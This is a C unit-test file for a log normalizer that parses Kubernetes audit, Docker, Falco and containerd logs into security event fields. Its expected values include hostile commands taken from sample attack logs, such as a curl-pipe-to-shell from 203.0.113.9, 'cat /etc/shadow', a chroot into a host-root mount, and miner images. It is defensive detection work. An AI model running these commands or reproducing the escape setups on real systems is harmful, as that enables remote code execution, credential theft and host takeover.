/* SPDX-License-Identifier: Apache-2.0 */
/* Normalization of every source format, field by field: the project's own
 * samples in corpus/formats and the public samples in ../shared/corpus-real
 * (skipped with a message when ../shared is absent). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <cJSON.h>

#include "gantry.h"
#include "support/shared.h"
#include "gantry_cjson.h"

#define MAX_ITEMS 256

typedef struct run {
    size_t lines;
    size_t count;
    gantry_item_kind kind[MAX_ITEMS];
    uint64_t first[MAX_ITEMS], last[MAX_ITEMS];
    cJSON *event[MAX_ITEMS];
    const char *reason[MAX_ITEMS];
} run;

static void collect(gantry_normalizer *n, run *r) {
    gantry_item it;
    while (gantry_normalizer_next(n, &it)) {
        assert_true(r->count < MAX_ITEMS);
        size_t i = r->count++;
        r->kind[i] = it.kind;
        r->first[i] = it.first_line;
        r->last[i] = it.last_line;
        r->event[i] = it.event ? cJSON_Duplicate(gantry_event_cjson(it.event), 1) : NULL;
        r->reason[i] = it.reason;
        if (it.kind == GANTRY_ITEM_EVENT)
            assert_non_null(it.event);
        if (it.kind == GANTRY_ITEM_MALFORMED)
            assert_non_null(it.reason);
    }
}

/* Every line lands in exactly one item's span, in order. */
static void check_accounting(const run *r) {
    uint64_t next = 1;
    for (size_t i = 0; i < r->count; i++) {
        assert_int_equal(r->first[i], next);
        assert_true(r->last[i] >= r->first[i]);
        next = r->last[i] + 1;
    }
    assert_int_equal(next - 1, r->lines);
}

static int run_file(const char *path, gantry_input_format format, run *r) {
    memset(r, 0, sizeof *r);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    gantry_normalizer *n = NULL;
    assert_int_equal(gantry_normalizer_new(NULL, format, &n), GANTRY_OK);
    char *line = NULL;
    size_t cap = 0;
    ssize_t len;
    while ((len = getline(&line, &cap, f)) >= 0) {
        if (len && line[len - 1] == '\n')
            len--;
        r->lines++;
        assert_int_equal(gantry_normalizer_feed(n, line, (size_t)len, r->lines), GANTRY_OK);
        collect(n, r);
    }
    assert_int_equal(gantry_normalizer_finish(n), GANTRY_OK);
    collect(n, r);
    gantry_normalizer_free(n);
    free(line);
    fclose(f);
    check_accounting(r);
    return 0;
}

static void free_run(run *r) {
    for (size_t i = 0; i < r->count; i++)
        cJSON_Delete(r->event[i]);
}

static size_t count_kind(const run *r, gantry_item_kind k) {
    size_t c = 0;
    for (size_t i = 0; i < r->count; i++)
        c += r->kind[i] == k;
    return c;
}

static const cJSON *get(const cJSON *ev, const char *key) {
    return cJSON_GetObjectItemCaseSensitive(ev, key);
}

/* The key holds `value`, or an array holding it. */
static int has_str(const cJSON *ev, const char *key, const char *value) {
    const cJSON *v = get(ev, key);
    if (cJSON_IsString(v))
        return strcmp(v->valuestring, value) == 0;
    const cJSON *e;
    cJSON_ArrayForEach(e, v) {
        if (cJSON_IsString(e) && strcmp(e->valuestring, value) == 0)
            return 1;
    }
    return 0;
}

static int is_true(const cJSON *ev, const char *key) {
    return cJSON_IsTrue(get(ev, key));
}

static int is_false(const cJSON *ev, const char *key) {
    return cJSON_IsFalse(get(ev, key));
}

static double num(const cJSON *ev, const char *key) {
    const cJSON *v = get(ev, key);
    if (cJSON_IsArray(v))
        v = v->child;
    assert_true(cJSON_IsNumber(v));
    return v->valuedouble;
}

/* The n-th EVENT item. */
static const cJSON *event_no(const run *r, size_t n) {
    for (size_t i = 0; i < r->count; i++)
        if (r->kind[i] == GANTRY_ITEM_EVENT && n-- == 0)
            return r->event[i];
    fail_msg("fewer events than expected");
    return NULL;
}

/* ---- corpus/formats ---- */

static void test_k8s_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/k8s_audit.jsonl", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 13);
    const cJSON *pod = event_no(&r, 0);
    assert_true(has_str(pod, "event.module", "k8s_audit"));
    assert_true(has_str(pod, "event.action", "create"));
    assert_true(has_str(pod, "event.outcome", "success"));
    assert_true(has_str(pod, "user.name", "alice@example.test"));
    assert_true(has_str(pod, "user.group.name", "developers"));
    assert_true(has_str(pod, "source.ip", "198.51.100.7"));
    assert_true(has_str(pod, "orchestrator.namespace", "team-a"));
    assert_true(has_str(pod, "orchestrator.resource.name", "debugger"));
    assert_true(has_str(pod, "container.name", "setup")); /* initContainers */
    assert_true(has_str(pod, "container.name", "shell"));
    assert_true(has_str(pod, "container.image.registry", "registry.example.test:5000"));
    assert_true(has_str(pod, "container.image.repository", "team/app"));
    assert_true(has_str(pod, "container.image.digest",
                        "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"));
    assert_true(has_str(pod, "container.image.repository", "library/alpine"));
    assert_true(has_str(pod, "container.image.tag", "latest"));
    assert_true(is_true(pod, "container.security_context.privileged"));
    assert_true(is_true(pod, "container.host_pid"));
    assert_true(is_false(pod, "container.host_network"));
    assert_true(has_str(pod, "container.security_context.capabilities.add", "SYS_ADMIN"));
    assert_true(has_str(pod, "container.mounts.source", "/"));
    assert_true(has_str(pod, "container.mounts.destination", "/host"));
    assert_true(has_str(pod, "container.mounts.type", "emptyDir"));
    assert_true(has_str(pod, "process.command_line", "/bin/sh -c sleep 1d"));
    assert_true(has_str(pod, "process.executable", "sh"));
    assert_true(has_str(pod, "container.env.name", "MODE"));
    /* raw paths stay readable */
    assert_non_null(get(pod, "objectRef"));
    assert_non_null(get(pod, "requestObject"));

    const cJSON *deploy = event_no(&r, 1);
    assert_true(has_str(deploy, "orchestrator.resource.type", "deployments"));
    assert_true(has_str(deploy, "orchestrator.resource.api_group", "apps"));
    assert_true(has_str(deploy, "container.image.name", "nginx:1.25"));
    assert_true(is_true(deploy, "container.host_network"));
    assert_true(is_true(deploy, "container.security_context.allow_privilege_escalation"));
    const cJSON *cron = event_no(&r, 2);
    assert_true(has_str(cron, "container.mounts.source", "/var/run/docker.sock"));
    assert_true(has_str(cron, "process.args", "curl -s http://203.0.113.9/x.sh | sh"));
    const cJSON *ds = event_no(&r, 3);
    assert_true(has_str(ds, "event.outcome", "failure"));
    assert_true(is_true(ds, "container.host_ipc"));
    assert_int_equal((int)num(ds, "http.response.status_code"), 403);
    assert_true(has_str(event_no(&r, 4), "container.image.name", "postgres:16"));
    assert_true(has_str(event_no(&r, 5), "container.image.name", "python:3.12-slim"));
    assert_true(has_str(event_no(&r, 6), "container.image.name", "nginx:1.25"));
    assert_true(has_str(event_no(&r, 7), "container.image.repository", "library/httpd"));
    const cJSON *eph = event_no(&r, 8);
    assert_true(has_str(eph, "container.name", "debugger-x1"));
    assert_true(is_true(eph, "container.security_context.privileged"));
    const cJSON *exec = event_no(&r, 9);
    assert_true(has_str(exec, "event.action", "exec"));
    assert_true(has_str(exec, "event.original_action", "create"));
    assert_true(has_str(exec, "process.command_line", "/bin/sh -c cat /etc/shadow"));
    assert_true(has_str(exec, "process.args", "cat /etc/shadow"));
    assert_true(has_str(exec, "container.name", "web"));
    const cJSON *aks = event_no(&r, 10);
    assert_true(has_str(aks, "verb", "create")); /* the Event is the document */
    assert_true(is_true(aks, "container.security_context.privileged"));
    assert_true(has_str(aks, "orchestrator.cluster.name", "PROD-AKS"));
    assert_non_null(get(aks, "aks"));
    const cJSON *aks_obj = event_no(&r, 11);
    assert_true(has_str(aks_obj, "event.action", "delete"));
    assert_true(has_str(aks_obj, "user.name", "carol"));
    const cJSON *gke = event_no(&r, 12);
    assert_true(has_str(gke, "user.name", "dave@example.test"));
    assert_true(has_str(gke, "orchestrator.namespace", "prod"));
    assert_true(has_str(gke, "orchestrator.resource.type", "pods"));
    assert_true(has_str(gke, "verb", "create"));
    assert_true(has_str(gke, "objectRef.resource", "pods"));
    assert_true(is_true(gke, "container.host_network"));
    assert_true(has_str(gke, "container.image.registry", "gcr.io"));
    assert_true(has_str(gke, "orchestrator.cluster.name", "prod-gke"));
    free_run(&r);
}

static void test_k8s_malformed_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/k8s_audit.malformed.jsonl", GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 4);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_BLANK), 1);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 1); /* wrong-typed fields: still an event */
    assert_int_equal(r.kind[0], GANTRY_ITEM_MALFORMED);
    assert_non_null(strstr(r.reason[0], "JSON"));
    free_run(&r);
}

static void test_docker_events_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/docker_events.jsonl", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 7);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1);
    const cJSON *create = event_no(&r, 0);
    assert_true(has_str(create, "event.module", "docker_events"));
    assert_true(has_str(create, "container.name", "probe"));
    assert_true(has_str(create, "container.image.repository", "library/alpine"));
    /* timeNano 1706781600123456789 exactly: a double would give ...768 */
    assert_true(has_str(create, "@timestamp", "2024-02-01T10:00:00.123456789Z"));
    const cJSON *exec = event_no(&r, 1);
    assert_true(has_str(exec, "event.action", "exec"));
    assert_true(has_str(exec, "event.original_action", "exec_create"));
    assert_true(has_str(exec, "process.command_line", "/bin/sh -c id"));
    assert_true(has_str(exec, "process.executable", "/bin/sh"));
    const cJSON *pull = event_no(&r, 3);
    assert_true(has_str(pull, "event.action", "pull"));
    assert_true(has_str(pull, "container.image.registry", "ghcr.io"));
    const cJSON *legacy = event_no(&r, 4);
    assert_true(has_str(legacy, "event.action", "die"));
    assert_true(has_str(legacy, "container.image.name", "alpine:3.19"));
    assert_true(has_str(event_no(&r, 5), "container.mounts.source", "/Users/someone/site"));
    const cJSON *text = event_no(&r, 6);
    assert_true(has_str(text, "event.action", "kill"));
    assert_true(has_str(text, "container.name", "web"));
    assert_true(has_str(text, "@timestamp", "2024-02-01T10:00:05.000000000Z"));
    free_run(&r);
}

static void test_dockerd_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/dockerd.log", GANTRY_FORMAT_AUTO, &r), 0);
    /* create + form data is one event spanning lines 2-3 */
    const cJSON *create = event_no(&r, 1);
    assert_int_equal(r.first[1], 2);
    assert_int_equal(r.last[1], 3);
    assert_true(has_str(create, "event.module", "dockerd"));
    assert_true(has_str(create, "event.action", "create"));
    assert_true(has_str(create, "container.name", "pwn"));
    assert_true(has_str(create, "container.image.name", "alpine"));
    assert_true(has_str(create, "container.image.repository", "library/alpine"));
    assert_true(is_true(create, "container.security_context.privileged"));
    assert_true(is_true(create, "container.host_pid"));
    assert_true(is_true(create, "container.host_network"));
    assert_true(is_false(create, "container.host_ipc"));
    assert_true(has_str(create, "container.mounts.source", "/"));
    assert_true(has_str(create, "container.mounts.destination", "/mnt"));
    assert_true(has_str(create, "container.mounts.source", "/var/run/docker.sock"));
    assert_true(has_str(create, "container.security_context.capabilities.add", "SYS_PTRACE"));
    assert_true(has_str(create, "process.command_line", "chroot /mnt sh"));
    assert_true(has_str(create, "container.env.name", "TOKEN"));
    assert_true(cJSON_IsObject(get(create, "docker.request")));
    const cJSON *exec = event_no(&r, 3);
    assert_true(has_str(exec, "event.action", "exec"));
    assert_true(has_str(exec, "host.name", "node1"));
    assert_true(has_str(exec, "process.command_line", "cat /etc/shadow"));
    const cJSON *pull = event_no(&r, 4);
    assert_true(has_str(pull, "event.action", "pull"));
    assert_true(has_str(pull, "container.image.name", "docker.io/kinsing/miner:v2"));
    /* truncated form data and a stray text line are malformed */
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 2);
    free_run(&r);
}

static void test_falco_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/falco.jsonl", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 2);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1);
    const cJSON *sys = event_no(&r, 0);
    assert_true(has_str(sys, "event.module", "falco"));
    assert_true(has_str(sys, "rule.name", "Terminal shell in container"));
    assert_true(has_str(sys, "event.action", "exec"));
    assert_true(is_true(sys, "container.security_context.privileged"));
    assert_true(has_str(sys, "container.mounts.source", "/etc"));
    assert_true(has_str(sys, "process.command_line", "bash -i"));
    assert_true(has_str(sys, "process.executable", "/usr/bin/bash"));
    assert_true(has_str(sys, "orchestrator.namespace", "team-a"));
    const cJSON *ka = event_no(&r, 1);
    assert_true(has_str(ka, "event.action", "create"));
    assert_true(has_str(ka, "source.ip", "198.51.100.7"));
    assert_true(is_true(ka, "container.security_context.privileged"));
    free_run(&r);
}

static void test_containerd_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/containerd.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 8);
    for (size_t i = 0; i < 8; i++)
        assert_true(has_str(event_no(&r, i), "event.module", "containerd"));
    assert_true(has_str(event_no(&r, 1), "container.image.name", "docker.io/library/nginx:1.25"));
    assert_true(has_str(event_no(&r, 3), "container.id", "bb22"));
    assert_true(has_str(event_no(&r, 4), "container.runtime.namespace", "k8s.io"));
    assert_true(has_str(event_no(&r, 5), "event.action", "exec"));
    assert_true(has_str(event_no(&r, 5), "process.command_line", "sh -c id"));
    assert_true(has_str(event_no(&r, 6), "container.runtime.namespace", "moby"));
    assert_true(has_str(event_no(&r, 7), "event.action", "die"));
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1);
    free_run(&r);
}

static void test_dashboard_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/k8s_dashboard.log", GANTRY_FORMAT_AUTO, &r), 0);
    const cJSON *deploy = event_no(&r, 0);
    assert_true(has_str(deploy, "event.module", "k8s_dashboard"));
    assert_true(has_str(deploy, "event.action", "deploy"));
    assert_true(has_str(deploy, "container.image.name", "docker.io/someone/miner:latest"));
    assert_true(is_true(deploy, "container.security_context.privileged"));
    assert_true(has_str(deploy, "source.ip", "10.1.2.3"));
    assert_int_equal((int)num(event_no(&r, 1), "http.response.status_code"), 201);
    /* the body over lines 3-8 is one event */
    const cJSON *file = event_no(&r, 2);
    assert_int_equal(r.first[2], 3);
    assert_int_equal(r.last[2], 8);
    assert_true(cJSON_IsObject(get(file, "k8s_dashboard.request")));
    const cJSON *shell = event_no(&r, 3);
    assert_true(has_str(shell, "event.action", "exec"));
    assert_true(has_str(shell, "container.name", "web"));
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1); /* the bare text line */
    free_run(&r);
}

static void test_plain_json_own(void **state) {
    (void)state;
    run r;
    assert_int_equal(run_file("corpus/formats/app.jsonl", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 2);
    assert_true(has_str(event_no(&r, 0), "user", "erin"));
    assert_true(has_str(event_no(&r, 0), "event.module", "json"));
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1);
    free_run(&r);
}

/* ---- ../shared/corpus-real ---- */

#define FIX "../shared/corpus-real/falco-k8s-audit-fixtures/"

static void test_real_falco_fixtures(void **state) {
    (void)state;
    tsup_need("../shared/corpus-real");
    run r;
    assert_int_equal(
        run_file(FIX "create_nginx_pod_privileged_2nd_container.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(is_true(event_no(&r, 0), "container.security_context.privileged"));
    free_run(&r);
    assert_int_equal(run_file(FIX "create_nginx_pod_unprivileged.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(is_false(event_no(&r, 0), "container.security_context.privileged"));
    free_run(&r);
    assert_int_equal(run_file(FIX "create_nginx_pod_sensitive_mount.json", GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_true(has_str(event_no(&r, 0), "container.mounts.source", "/etc"));
    assert_true(has_str(event_no(&r, 0), "container.mounts.destination", "/host/etc"));
    free_run(&r);
    assert_int_equal(run_file(FIX "exec_pod.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(has_str(event_no(&r, 0), "event.action", "exec"));
    assert_true(has_str(event_no(&r, 0), "process.command_line", "bash"));
    assert_true(has_str(event_no(&r, 0), "container.name", "nginx1"));
    free_run(&r);
    assert_int_equal(run_file(FIX "attach_pod.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(has_str(event_no(&r, 0), "event.action", "attach"));
    free_run(&r);
    assert_int_equal(run_file(FIX "create_nginx_pod_hostnetwork.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(is_true(event_no(&r, 0), "container.host_network"));
    free_run(&r);
    assert_int_equal(run_file(FIX "create_deployment.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(has_str(event_no(&r, 0), "orchestrator.resource.type", "deployments"));
    assert_non_null(get(event_no(&r, 0), "container.image.name"));
    free_run(&r);
    assert_int_equal(run_file(FIX "anonymous_creates_namespace_foo.json", GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_true(has_str(event_no(&r, 0), "user.name", "system:anonymous"));
    free_run(&r);
    assert_int_equal(run_file(FIX "create_configmap_sensitive_values.json", GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 6);
    free_run(&r);
    /* {"kind": 0} is not an audit event: plain JSON */
    assert_int_equal(run_file(FIX "fal_01_003.json", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(has_str(event_no(&r, 0), "event.module", "json"));
    free_run(&r);
}

static void test_real_elastic_audit(void **state) {
    (void)state;
    tsup_need("../shared/corpus-real");
    run r;
    assert_int_equal(run_file("../shared/corpus-real/elastic-integrations-k8s-audit/test-audit.log",
                              GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    for (size_t i = 0; i < count_kind(&r, GANTRY_ITEM_EVENT); i++)
        assert_true(has_str(event_no(&r, i), "event.module", "k8s_audit"));
    assert_true(has_str(event_no(&r, 0), "user.name", "system:serviceaccounts:default:default"));
    assert_true(has_str(event_no(&r, 3), "user.name", "system:gke-master-healthcheck"));
    assert_true(has_str(event_no(&r, 3), "orchestrator.cluster.name", "test-cluster"));
    assert_true(has_str(event_no(&r, 4), "user.name", "aksService"));
    assert_true(has_str(event_no(&r, 4), "orchestrator.cluster.name", "TEST-AKS"));
    free_run(&r);
    assert_int_equal(
        run_file("../shared/corpus-real/elastic-integrations-k8s-audit/test-kube-audit.log",
                 GANTRY_FORMAT_AUTO, &r),
        0);
    assert_true(has_str(event_no(&r, 0), "event.action", "update"));
    assert_true(has_str(event_no(&r, 0), "orchestrator.resource.type", "leases"));
    assert_true(has_str(event_no(&r, 0), "verb", "update"));
    free_run(&r);
}

static void test_real_docker_and_falco(void **state) {
    (void)state;
    tsup_need("../shared/corpus-real");
    run r;
    assert_int_equal(run_file("../shared/corpus-real/deck-chores-docker-events/events_00.jsonl",
                              GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    const cJSON *c = event_no(&r, 1);
    assert_true(has_str(c, "event.action", "create"));
    assert_true(has_str(c, "container.name", "sojus_beep_1"));
    assert_true(has_str(c, "container.image.repository", "library/sojus_beep"));
    free_run(&r);
    assert_int_equal(
        run_file("../shared/corpus-real/docker-cli-docs-events/events-default-format.txt",
                 GANTRY_FORMAT_AUTO, &r),
        0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    assert_true(has_str(event_no(&r, 0), "container.name", "test"));
    free_run(&r);
    assert_int_equal(
        run_file("../shared/corpus-real/elastic-integrations-falco-alerts/test-falco.head4.jsonl",
                 GANTRY_FORMAT_AUTO, &r),
        0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 4);
    assert_true(has_str(event_no(&r, 0), "process.command_line", "event-generator run --loop"));
    assert_true(has_str(event_no(&r, 0), "rule.name", "Read sensitive file untrusted"));
    free_run(&r);
}

#define GH "../shared/corpus-real/github-issue-log-excerpts/"

static void test_real_text_logs(void **state) {
    (void)state;
    tsup_need("../shared/corpus-real");
    run r;
    assert_int_equal(run_file(GH "dockerd-debug.for-mac-922.rejoined.log", GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(r.count, 1);
    const cJSON *create = event_no(&r, 0);
    assert_int_equal(r.last[0], 2);
    assert_true(has_str(create, "container.name", "docker_api-app_run_1"));
    assert_true(has_str(create, "container.mounts.source",
                        "/Users/mattphipps/Projects/HourlyNerd/main-app"));
    assert_true(has_str(create, "process.command_line", "/bin/true"));
    free_run(&r);
    assert_int_equal(
        run_file(GH "dockerd-debug.clearcontainers-runtime-1016.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    assert_true(has_str(event_no(&r, 0), "user.name", "root")); /* identity line joined */
    assert_true(has_str(event_no(&r, 0), "host.name", "") || !get(event_no(&r, 0), "host.name"));
    free_run(&r);
    assert_int_equal(run_file(GH "dockerd-debug.moby-11865.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 1); /* the kernel warning */
    free_run(&r);
    assert_int_equal(run_file(GH "containerd-cri.cri-984.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 8);
    assert_true(has_str(event_no(&r, 1), "container.id",
                        "15facd79e0d76f089482fc68fb93a86a2ceb1b5bc3a0d5887913dff1980a5bd8"));
    free_run(&r);
    assert_int_equal(run_file(GH "containerd-cri.cri-259.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_true(has_str(event_no(&r, 1), "event.action", "create"));
    free_run(&r);
    assert_int_equal(run_file(GH "k8s-dashboard.appdeploymentfromfile.dashboard-1739.log",
                              GANTRY_FORMAT_AUTO, &r),
                     0);
    assert_int_equal(r.count, 1);
    assert_true(has_str(event_no(&r, 0), "event.action", "deploy"));
    assert_true(cJSON_IsObject(get(event_no(&r, 0), "k8s_dashboard.request")));
    free_run(&r);
    assert_int_equal(run_file(GH "k8s-dashboard.helm-charts-13390.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    assert_true(has_str(event_no(&r, 0), "source.ip", "10.1.0.57"));
    free_run(&r);
    assert_int_equal(run_file(GH "k8s-dashboard.kubeasz-671.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_MALFORMED), 0);
    free_run(&r);
    assert_int_equal(run_file(GH "k8s-dashboard.acs-engine-3827.log", GANTRY_FORMAT_AUTO, &r), 0);
    assert_int_equal(count_kind(&r, GANTRY_ITEM_EVENT), 7);
    free_run(&r);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_k8s_own),
        cmocka_unit_test(test_k8s_malformed_own),
        cmocka_unit_test(test_docker_events_own),
        cmocka_unit_test(test_dockerd_own),
        cmocka_unit_test(test_falco_own),
        cmocka_unit_test(test_containerd_own),
        cmocka_unit_test(test_dashboard_own),
        cmocka_unit_test(test_plain_json_own),
        cmocka_unit_test(test_real_falco_fixtures),
        cmocka_unit_test(test_real_elastic_audit),
        cmocka_unit_test(test_real_docker_and_falco),
        cmocka_unit_test(test_real_text_logs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
